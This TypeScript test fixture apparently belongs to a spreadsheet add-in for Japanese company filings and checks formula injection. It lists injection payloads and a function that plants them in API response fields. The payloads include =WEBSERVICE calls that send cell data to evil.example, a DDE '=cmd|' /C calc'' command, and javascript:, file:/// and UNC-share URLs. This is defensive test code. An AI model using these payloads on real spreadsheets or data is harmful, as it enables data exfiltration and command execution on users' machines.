// Hostile-text mode: every free-text, URL and loosely typed field of an answer carries formula-like text.

/**
 * Texts a filing could carry that a spreadsheet would run or reinterpret: formulas with `=`, `+`,
 * `-`, `@`, a leading tab, CR or LF (OWASP CSV injection), full-width `＝`, and harmless-looking
 * ones ("-", "+5%") that Range.values would still read as formulas (Microsoft: Range.values).
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '=WEBSERVICE("https://evil.example/?q="&A1)',
  "+5%",
  "-",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  '=HYPERLINK("https://evil.example/","click")',
  "-2+3",
  "＝1+1",
  "=1+1\n次の行",
  "+81-3-1234-5678",
  "=cmd|' /C calc'!A0",
];

/** URLs a filing could point at: non-web schemes, a formula, and a quote that would end a HYPERLINK's text. */
export const HOSTILE_URLS: readonly string[] = [
  "javascript:alert(1)",
  'https://evil.example/a"&WEBSERVICE("https://evil.example/")&"',
  '=WEBSERVICE("https://evil.example/")',
  "file:///C:/Windows/win.ini",
  "\\\\evil.example\\share\\x.xlsx",
];

/** Free text: names, titles, sections, reasons, positions, notes (contract: strings anyone's filing writes). */
const TEXT_KEYS = new Set([
  "company_name",
  "name",
  "name_ja",
  "security_name",
  "segment_name",
  "competition_reason",
  "title",
  "section_text",
  "section_title_raw",
  "section_name",
  "html_or_text",
  "address_ja",
  "latest_position",
  "latest_role",
  "position",
  "role",
  "ratio_text",
  "license_note",
  "processed_by",
  "source_label",
]);

const URL_KEYS = new Set(["source_url", "pdf_url"]);

/**
 * Dates a filing can leave unparsable ("－", "+5%"): strings in the contract (openapi.json
 * SecurityDisclosure filing_date, PersonResponse birth_date, …), so what the add-in cannot read as
 * a date it must still write as the exact text. Numbers stay numbers: the contract types them
 * number or null, and the client refuses an answer with text in one (src/client/response-check.ts),
 * so hostile text there would test the refusal, not the writers.
 */
const LOOSE_KEYS = new Set([
  "birth_date",
  "filing_date",
  "disclosed_at",
  "valid_to",
  "effective_date",
  "rights_last_date",
]);

/**
 * Returns `body` with hostile texts in place of the fields above (deterministic: the n-th field
 * replaced gets the n-th text, round robin). Attribution is rewritten too; required identifiers
 * (codes, doc ids, person ids, fiscal years, the price `date`) are left alone so every route still
 * answers what was asked.
 * @example poison({ officers: [{ name: "山田" }] }) // { officers: [{ name: '=WEBSERVICE(…)' }] }
 */
export function poison(body: unknown): unknown {
  let n = 0;
  const walk = (value: unknown, key: string | undefined): unknown => {
    if (Array.isArray(value)) return value.map((v) => walk(v, key));
    if (typeof value === "object" && value !== null) {
      return Object.fromEntries(
        Object.entries(value as Record<string, unknown>).map(([k, v]) => [k, walk(v, k)]),
      );
    }
    if (key === undefined) return value;
    if (URL_KEYS.has(key) && typeof value === "string") {
      return HOSTILE_URLS[n++ % HOSTILE_URLS.length];
    }
    const text = typeof value === "string" && TEXT_KEYS.has(key);
    const loose = typeof value === "string" && LOOSE_KEYS.has(key);
    return text || loose ? HOSTILE_TEXTS[n++ % HOSTILE_TEXTS.length] : value;
  };
  return walk(body, undefined);
}
